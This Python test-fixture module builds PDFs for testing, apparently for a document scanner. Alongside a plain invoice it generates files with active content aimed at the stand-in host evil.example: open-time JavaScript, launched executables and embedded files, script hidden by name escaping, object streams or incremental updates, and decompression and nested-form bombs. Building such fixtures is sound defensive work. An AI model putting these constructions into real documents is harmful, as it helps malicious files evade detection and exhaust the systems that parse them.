"""PDFs for tests: a small invoice that can be read, and the same one with something in it that no invoice needs."""

import zlib

WORDS = "Invoice F-2026-17"
HOST = b"evil.example"


def stream(content: bytes, facts: bytes = b"") -> bytes:
    """A stream object."""
    return b"<< /Length %d %s >>\nstream\n%s\nendstream" % (len(content), facts, content)


def packed(content: bytes, facts: bytes = b"", *, times: int = 1) -> bytes:
    """A stream object, compressed so many times."""
    for _ in range(times):
        content = zlib.compress(content, 9)
    return stream(content, b"/Filter [%s] %s" % (b" /FlateDecode" * times, facts))


def table(places: dict[int, int], start: int, trailer: bytes) -> bytes:
    """The table of objects of one section, and its trailer."""
    rows = b"".join(b"%d 1\n%010d 00000 n \n" % item for item in sorted(places.items()))
    facts = b"/Size %d /Root 1 0 R %s" % (max(places) + 1, trailer)
    return b"xref\n0 1\n0000000000 65535 f \n%strailer\n<< %s >>\nstartxref\n%d\n%%%%EOF\n" % (rows, facts, start)


def section(before: bytes, objects: dict[int, bytes], trailer: bytes = b"") -> bytes:
    """What comes before, and one more section with these objects: an incremental update, where something does."""
    out, places = before or b"%PDF-1.7\n", {}
    for number, content in objects.items():
        places[number] = len(out)
        out += b"%d 0 obj\n%s\nendobj\n" % (number, content)
    return out + table(places, len(out), trailer)


def pdf(
    *objects: bytes, catalog: bytes = b"", page: bytes = b"", contents: bytes | None = None, trailer: bytes = b""
) -> bytes:
    """A PDF of one page that says :data:`WORDS`; further objects have the numbers from 6."""
    words = b"BT /F 18 Tf 30 60 Td (%s) Tj ET" % WORDS.encode()
    parts = [
        b"<< /Type /Catalog /Pages 2 0 R %s >>" % catalog,
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 240 120] /Contents 4 0 R"
        b" /Resources << /Font << /F 5 0 R >> /XObject << /X 6 0 R >> >> %s >>" % page,
        stream(words) if contents is None else contents,
        b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>",
        *objects,
    ]
    return section(b"", dict(enumerate(parts, start=1)), trailer)


def linked(action: bytes) -> bytes:
    """A PDF with an action behind a part of its page."""
    return pdf(page=b"/Annots [ << /Type /Annot /Subtype /Link /Rect [0 0 240 120] /A << %s >> >> ]" % action)


def hidden(inside: bytes) -> bytes:
    """A PDF with an object in a compressed object stream, found only by a cross-reference stream."""
    out, places = b"%PDF-1.5\n", []
    for number, part in enumerate(
        (
            b"<< /Type /Catalog /Pages 2 0 R /OpenAction 6 0 R >>",
            b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
            b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 90 90] >>",
            packed(b"6 0 " + inside, b"/Type /ObjStm /N 1 /First 4"),
        ),
        start=1,
    ):
        places.append(len(out))
        out += b"%d 0 obj\n%s\nendobj\n" % (number, part)
    rows = [(0, 0, 255), *((1, place, 0) for place in places), (1, len(out), 0), (2, 4, 0)]
    content = b"".join(bytes([kind]) + place.to_bytes(4, "big") + bytes([last]) for kind, place, last in rows)
    last = stream(content, b"/Type /XRef /Size 7 /W [1 4 1] /Root 1 0 R")
    return out + b"5 0 obj\n%s\nendobj\nstartxref\n%d\n%%%%EOF\n" % (last, len(out))


def updated(action: bytes) -> bytes:
    """A PDF whose first section acts when it is opened, behind an update that shows a harmless catalogue."""
    first = pdf(b"<< %s >>" % action, catalog=b"/OpenAction 6 0 R")
    previous = first.rindex(b"xref\n0 1")
    return section(first, {1: b"<< /Type /Catalog /Pages 2 0 R >>", 6: b"null"}, b"/Prev %d" % previous)


SCRIPT = b"/S /JavaScript /JS (app.launchURL\\('http://%s/script'\\))" % HOST
ACTIVE = {
    "an address on the web": linked(b"/S /URI /URI (http://%s/uri)" % HOST),
    "a page of another file": linked(b"/S /GoToR /F (\\\\\\\\%s\\\\gotor.pdf) /D [0 /Fit]" % HOST),
    "a page of a file inside": linked(b"/S /GoToE /F (http://%s/gotoe.pdf) /D [0 /Fit] /T << /R /C /N (x) >>" % HOST),
    "a program": linked(b"/S /Launch /F (http://%s/launch.exe)" % HOST),
    "a form that is sent": linked(b"/S /SubmitForm /F (http://%s/submit)" % HOST),
    "a stream from elsewhere": pdf(
        b"<< /Length 0 /F << /FS /URL /F (http://%s/stream) >> /Type /XObject /Subtype /Form /BBox [0 0 9 9] >>\n"
        b"stream\n\nendstream" % HOST
    ),
    "a file inside": pdf(
        b"<< /Type /Filespec /F (%s.exe) /EF << /F 7 0 R >> >>" % HOST,
        packed(b"MZ http://%s/embedded" % HOST, b"/Type /EmbeddedFile"),
        catalog=b"/Names << /EmbeddedFiles << /Names [(a) 6 0 R] >> >>",
    ),
    "a script": pdf(b"<< %s >>" % SCRIPT, catalog=b"/OpenAction 6 0 R"),
    "a script under another name": pdf(
        b"<< %s >>" % SCRIPT.replace(b"/JavaScript", b"/J#61vaScript"), catalog=b"/Open#41ction 6 0 R"
    ),
    "a script in a compressed object": hidden(b"<< %s >>" % SCRIPT),
    "a script behind an update": updated(SCRIPT),
    "a script in an update": section(
        pdf(), {1: b"<< /Type /Catalog /Pages 2 0 R /OpenAction << %s >> >>" % SCRIPT}, b"/Prev 0"
    ),
}
"""PDFs that act when they are opened or pressed, or that bring something along; each names :data:`HOST`."""

LOCKED = pdf(
    trailer=b"/Encrypt << /Filter /Standard /V 1 /R 2 /O (%s) /U (%s) /P -4 >> /ID [ (a) (a) ]" % (b"x" * 32, b"x" * 32)
)
"""A PDF that opens with a password only."""
BOMBS = {
    "a page that grows a thousandfold, twice": pdf(contents=packed(b"0 0 m 9 9 l S " * 2**24, times=2)),
    "forms in forms": pdf(
        *(
            stream(
                b"/X Do " * 12,
                b"/Type /XObject /Subtype /Form /BBox [0 0 240 120] /Resources << /XObject << /X %d 0 R >> >>"
                % (number + 1),
            )
            for number in range(6, 20)
        ),
        stream(b"0 0 240 120 re f", b"/Type /XObject /Subtype /Form /BBox [0 0 240 120]"),
        contents=stream(b"/X Do"),
    ),
}
"""Small PDFs that would take any program more time or memory than an invoice is worth."""
